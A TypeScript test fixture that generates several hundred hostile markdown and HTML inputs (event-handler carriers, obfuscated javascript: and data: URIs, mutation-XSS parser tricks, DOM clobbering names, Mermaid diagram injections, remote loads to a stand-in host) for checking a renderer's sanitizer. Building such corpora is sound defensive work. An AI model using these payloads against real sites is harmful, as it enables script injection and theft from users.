/** One hostile text and what it tries. */
export interface HostileMarkdown {
  readonly name: string;
  readonly markdown: string;
}

/** Every script of the list calls this global function, so that a browser can tell when one ran. */
export const HOSTILE_FUNCTION = 'hostileRan';

/** Every remote load of the list goes to this host. */
export const HOSTILE_HOST = 'hostile.example';

const CALL = `${HOSTILE_FUNCTION}()`;
const REMOTE = `https://${HOSTILE_HOST}`;

const HANDLERS = (
  'onerror onload onclick onfocus onblur onmouseover onmouseenter onpointerdown onanimationstart ontransitionend ' +
  'ontoggle onbegin onend onrepeat onwheel onscroll oncopy onpaste oninput onchange onsubmit onhashchange ' +
  'onpageshow onmessage onbeforeunload onsecuritypolicyviolation'
).split(' ');

const CARRIERS: readonly string[] = [
  '<img src=x {on}>',
  '<a href="#x" {on} autofocus tabindex=0>words</a>',
  '<div {on} style="animation:x 1s">words</div>',
  '<svg {on}><animate {on} attributeName=x dur=1s /></svg>',
];

const SCRIPT_ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java&#9;script:${CALL}`,
  `java&Tab;script:${CALL}`,
  `java&NewLine;script:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;avascript:${CALL}`,
  `&#x0000006A&#x00000061&#x00000076&#x00000061script:${CALL}`,
  `&#1;javascript:${CALL}`,
  `&#14;javascript:${CALL}`,
  `&nbsp;javascript:${CALL}`,
  `javascript://${HOSTILE_HOST}/%0a${CALL}`,
  `javascript:%68ostileRan()`,
  `vbscript:${CALL}`,
  `livescript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5ob3N0aWxlUmFuKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhvc3RpbGVSYW4oKSIvPg==`,
  `data:application/javascript,${CALL}`,
  `data:image/png,notbase64" onerror="${CALL}`,
  `blob:${REMOTE}/1`,
  `filesystem:${REMOTE}/temporary/x`,
  `view-source:${REMOTE}`,
  `jar:${REMOTE}!/x.html`,
  `file:///etc/passwd`,
  `//${HOSTILE_HOST}/x`,
  `\\\\${HOSTILE_HOST}\\x`,
];

const LINK_FORMS: readonly ((address: string) => string)[] = [
  (address) => `[words](<${address}>)`,
  (address) => `[words][ref]\n\n[ref]: <${address}>`,
  (address) => `<a href="${address}">words</a>`,
  (address) => `![words](<${address}>)`,
];

const REMOVED: readonly string[] = [
  `<script>${CALL}</script>`,
  `<script src="${REMOTE}/x.js"></script>`,
  `<SCRIPT\n>${CALL}</SCRIPT\n>`,
  `<script type=module>${CALL}</script>`,
  `<script>${CALL}`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<style>@import "${REMOTE}/x.css"; * { background: url(${REMOTE}/x) }</style>`,
  `<link rel=stylesheet href="${REMOTE}/x.css">`,
  `<link rel=preload as=image href="${REMOTE}/x.png">`,
  `<link rel=dns-prefetch href="//${HOSTILE_HOST}">`,
  `<base href="${REMOTE}/">`,
  `<meta http-equiv=refresh content="0;url=${REMOTE}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<iframe src="${REMOTE}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe src="javascript:${CALL}">`,
  `<frameset onload="${CALL}"><frame src="${REMOTE}"></frameset>`,
  `<object data="${REMOTE}/x.swf"></object>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="${REMOTE}/x.swf">`,
  `<applet code="x" archive="${REMOTE}/x.jar"></applet>`,
  `<video src="${REMOTE}/x.mp4" poster="${REMOTE}/x.png" onerror="${CALL}"></video>`,
  `<audio src="${REMOTE}/x.mp3" autoplay></audio>`,
  `<video><source src="${REMOTE}/x" onerror="${CALL}"></video>`,
  `<video><track src="${REMOTE}/x.vtt" default></video>`,
  `<picture><source srcset="${REMOTE}/x.png"><img src="${REMOTE}/y.png"></picture>`,
  `<canvas id=c></canvas>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><img src="${REMOTE}/x.png"></noscript>`,
  `<title>${CALL}</title>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="${REMOTE}/x.js" /></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text x=9 y=9>words</text></a></svg>`,
  `<svg><use href="${REMOTE}/x.svg#a" /></svg>`,
  `<svg><image href="${REMOTE}/x.png" /></svg>`,
  `<svg><foreignObject><iframe src="javascript:${CALL}"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to="${CALL}" /></svg>`,
  `<svg><animate attributeName=href values="javascript:${CALL}" /></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${CALL}">words</maction></math>`,
  `<math href="javascript:${CALL}">words</math>`,
  `<?xml-stylesheet href="${REMOTE}/x.css"?>`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<!DOCTYPE html><script>${CALL}</script>`,
  `<!ENTITY x SYSTEM "${REMOTE}/x">`,
];

const FORMS: readonly string[] = [
  `<form action="${REMOTE}"><input name=q><button>Go</button></form>`,
  `<form action="javascript:${CALL}"><input type=submit></form>`,
  `<form id=x></form><button form=x formaction="javascript:${CALL}">words</button>`,
  `<input type=image src="${REMOTE}/x.png">`,
  `<input autofocus onfocus="${CALL}">`,
  `<select autofocus onfocus="${CALL}"><option>words</option></select>`,
  `<textarea autofocus onfocus="${CALL}">words</textarea>`,
  `<keygen autofocus onfocus="${CALL}">`,
  `<isindex action="javascript:${CALL}" type=submit value=words>`,
  `<button type=submit onclick="${CALL}">words</button>`,
  `<details open ontoggle="${CALL}"><summary>words</summary>more</details>`,
  `<dialog open onclose="${CALL}">words</dialog>`,
  `<label for=x onclick="${CALL}">words</label>`,
  `<marquee onstart="${CALL}">words</marquee>`,
  `<body onload="${CALL}" background="${REMOTE}/x.png">words`,
  `<html onclick="${CALL}">words</html>`,
  `<table background="${REMOTE}/x.png"><tr><td background="${REMOTE}/y.png">words</td></tr></table>`,
  `<fieldset class="decision" data-decision-id="forged"><input type=radio name=decision-forged value=0 checked></fieldset>`,
  `<div data-mark="decision:0">words</div>`,
  `<ul><li data-mark="x:option:0"><input type=checkbox>words</li></ul>`,
  `<span data-no-anchor>hidden from anchors</span>`,
  `<p data-start="999999">words</p>`,
];

const CLOBBERING_NAMES = (
  'location document body head forms images cookie domain getElementById querySelector createElement addEventListener ' +
  'parentNode attributes innerHTML nodeName submit action root app __proto__ constructor heading-overview'
).split(' ');

const LOADS: readonly string[] = [
  `![words](${REMOTE}/x.png)`,
  `![words](//${HOSTILE_HOST}/x.png)`,
  `![words](\\\\${HOSTILE_HOST}\\x.png)`,
  `![words][ref]\n\n[ref]: ${REMOTE}/x.png`,
  `<img src="${REMOTE}/x.png" srcset="${REMOTE}/y.png 2x" loading=eager>`,
  `<img src="data:image/png;base64,AAAA" srcset="${REMOTE}/y.png 2x">`,
  `<img lowsrc="${REMOTE}/x.png" dynsrc="${REMOTE}/x.avi">`,
  `<image src="${REMOTE}/x.png">`,
  `<div style="background:url(${REMOTE}/x.png)">words</div>`,
  `<p style="position:fixed;inset:0;z-index:9999">cover</p>`,
  `<a href="${REMOTE}" ping="${REMOTE}/ping" target=_top download>words</a>`,
  `<blockquote cite="${REMOTE}/x">words</blockquote>`,
  `<q cite="${REMOTE}/x">words</q>`,
  `<del cite="${REMOTE}/x" datetime=now>words</del>`,
  `<input type=image src="${REMOTE}/x.png">`,
  `<body background="${REMOTE}/x.png">`,
  `<font face="x" color="red">words</font><center>more</center>`,
  `<portal src="${REMOTE}"></portal>`,
  `<img src="${REMOTE}/x.png" is="x-y" slot="a" part="b">`,
  `<x-element onclick="${CALL}">words</x-element>`,
];

const MUTATIONS: readonly string[] = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${CALL}></style></math></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<svg><desc><noscript></noscript><p title="</desc><img src=x onerror=${CALL}>"></desc></svg>`,
  `<svg><style>{font-family:'<iframe/onload=${CALL}>'</style></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<textarea><script>${CALL}</script></textarea>`,
  `<textarea></textarea><script>${CALL}</script>`,
  `<title></title><img src=x onerror=${CALL}>`,
  `<xmp><img src=x onerror=${CALL}></xmp>`,
  `<xmp></xmp><img src=x onerror=${CALL}>`,
  `<plaintext><img src=x onerror=${CALL}>`,
  `<listing>&lt;img src=1 onerror=${CALL}&gt;</listing>`,
  `<noembed><img src=x onerror=${CALL}></noembed>`,
  `<noframes></noframes><img src=x onerror=${CALL}>`,
  `<select><iframe></select><img src=x onerror=${CALL}>`,
  `<select><template><img src=x onerror=${CALL}></template></select>`,
  `<table><td><svg><desc><td><img src=x onerror=${CALL}>`,
  `<a><table><a href="javascript:${CALL}">words</a></table></a>`,
  `<p><svg><p><style><img src=x onerror=${CALL}>`,
  `<div><!--><img src=x onerror=${CALL}>--></div>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!---><img src=x onerror=${CALL}>-->`,
  `<!-- --!><img src=x onerror=${CALL}> -->`,
  `<!--\u0001--><img src=x onerror=${CALL}>`,
  `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
  `<img """><script>${CALL}</script>">`,
  `<img/src/onerror=${CALL}>`,
  `<img\u000csrc=x\u000conerror=${CALL}>`,
  `<<script>${CALL}//<</script>`,
  `<b <script>${CALL}</script>0`,
  `<a href="x"title="'onclick='${CALL}">words</a>`,
  `<a title='" onmouseover="${CALL}'>words</a>`,
  `[words](https://x.example "' onmouseover='${CALL}")`,
  `[words](https://x.example '" onmouseover="${CALL}')`,
  `![" onerror="${CALL}](https://x.example/x.png)`,
  `![x](https://x.example/x.png"onerror="${CALL})`,
  `\`\`\`"><script>${CALL}</script>\ncode\n\`\`\``,
  `\`\`\`js" onclick="${CALL}\ncode\n\`\`\``,
  `<code class="language-js&quot; onclick=${CALL}">x</code>`,
  `<https://x.example/"onclick="${CALL}>`,
  `http://x.example/"onmouseover="${CALL}`,
  `[^1]\n\n[^1]: <img src=x onerror=${CALL}>`,
  `[^"><script>]\n\n[^"><script>]: words`,
  `# <img src=x onerror=${CALL}>`,
  `| <img src=x onerror=${CALL}> |\n| - |\n| <script>${CALL}</script> |`,
  `> [!NOTE]\n> <img src=x onerror=${CALL}>`,
  `- [ ] <img src=x onerror=${CALL}>`,
  `<!-- decision: a -->\n\n<b onclick="${CALL}">Which?</b>\n\n- <img src=x onerror=${CALL}> one\n- two\n\n<!-- /decision -->`,
  `<!-- decision: a" onclick="${CALL} -->\n\n- one\n\n<!-- /decision -->`,
  `<!-- note: <script>${CALL}</script> -->`,
  `<!-- <img src=x onerror=${CALL}> -->`,
  `---\ntitle: <script>${CALL}</script>\n---\n\nwords`,
  `**R1: <img src=x onerror=${CALL}>" onclick="${CALL}**\n\nSee R1.`,
];

const DIAGRAMS: readonly string[] = [
  `graph TD\n  A["<script>${CALL}</script>"] --> B`,
  `graph TD\n  A --> B\n  click A "javascript:${CALL}"`,
  `graph TD\n  A --> B\n  click A call ${CALL}`,
  `graph TD\n  A --> B\n  click A href "${REMOTE}" _top`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  A["<img src=x onerror=${CALL}>"]`,
  `%%{init: {"themeCSS": "@import url(${REMOTE}/x.css)"}}%%\ngraph TD\n  A`,
  `---\nconfig:\n  securityLevel: loose\n---\ngraph TD\n  A["<iframe src=${REMOTE}>"]`,
  `graph TD\n  A["<img src='${REMOTE}/x.png'>"]`,
  `sequenceDiagram\n  A->>B: <script>${CALL}</script>`,
  `classDiagram\n  class A\n  link A "javascript:${CALL}"`,
  `</code></pre><script>${CALL}</script>`,
  `graph TD\n  A@{ img: "${REMOTE}/x.png" }`,
];

const BROKEN_NESTING: readonly string[] = [
  `<table><p>words</table>`,
  `<b><p>one</b>two</p>`,
  `<a href="https://x.example"><a href="https://y.example">words</a></a>`,
  `<ul><table><li>words</ul></table>`,
  `</div></article></main></body></html><script>${CALL}</script>`,
  `<div><div><div>\n\n## Heading\n\n</span></p></table>`,
  `<td>cell</td><tr><th>head`,
  `<li>loose</li>`,
  `<dt>term<dd>words`,
  `<h1><h2>words</h1></h2>`,
  `<pre>\n\n<b>one\n\n</pre>two`,
  `<object>\n\nwords after an open element`,
  `words <title> and more words`,
  `words <select> and more words`,
  `${'<b>'.repeat(50)}words`,
  `${'<div>'.repeat(200)}words`,
  `${'> '.repeat(60)}words`,
  `<!-- options -->\n\n| a | b |\n| - | - |\n| <script>${CALL}</script> | x |\n\n<!-- /options -->`,
];

/** Hostile texts by rule: at least 300, each tried by the suites at the level of HTML and in a browser. */
export const HOSTILE_MARKDOWN: readonly HostileMarkdown[] = [
  ...HANDLERS.flatMap((handler) =>
    CARRIERS.map((carrier, index) => ({
      name: `handler ${handler} in carrier ${index + 1}`,
      markdown: carrier.replaceAll('{on}', `${handler}="${CALL}"`),
    })),
  ),
  ...SCRIPT_ADDRESSES.flatMap((address, index) =>
    LINK_FORMS.map((form, at) => ({
      name: `address ${index + 1} in form ${at + 1}`,
      markdown: form(address),
    })),
  ),
  ...numbered('removed element', REMOVED),
  ...numbered('form', FORMS),
  ...CLOBBERING_NAMES.flatMap((name) => [
    { name: `clobbering id ${name}`, markdown: `<a id="${name}" name="${name}">words</a>` },
    {
      name: `clobbering name ${name}`,
      markdown: `<img name="${name}" id="${name}" src=x alt=words>\n\n# ${name}`,
    },
  ]),
  ...numbered('remote load', LOADS),
  ...numbered('mutation', MUTATIONS),
  ...DIAGRAMS.map((source, index) => ({
    name: `diagram ${index + 1}`,
    markdown: `\`\`\`mermaid\n${source}\n\`\`\``,
  })),
  ...numbered('broken nesting', BROKEN_NESTING),
];

function numbered(what: string, texts: readonly string[]): HostileMarkdown[] {
  return texts.map((markdown, index) => ({ name: `${what} ${index + 1}`, markdown }));
}
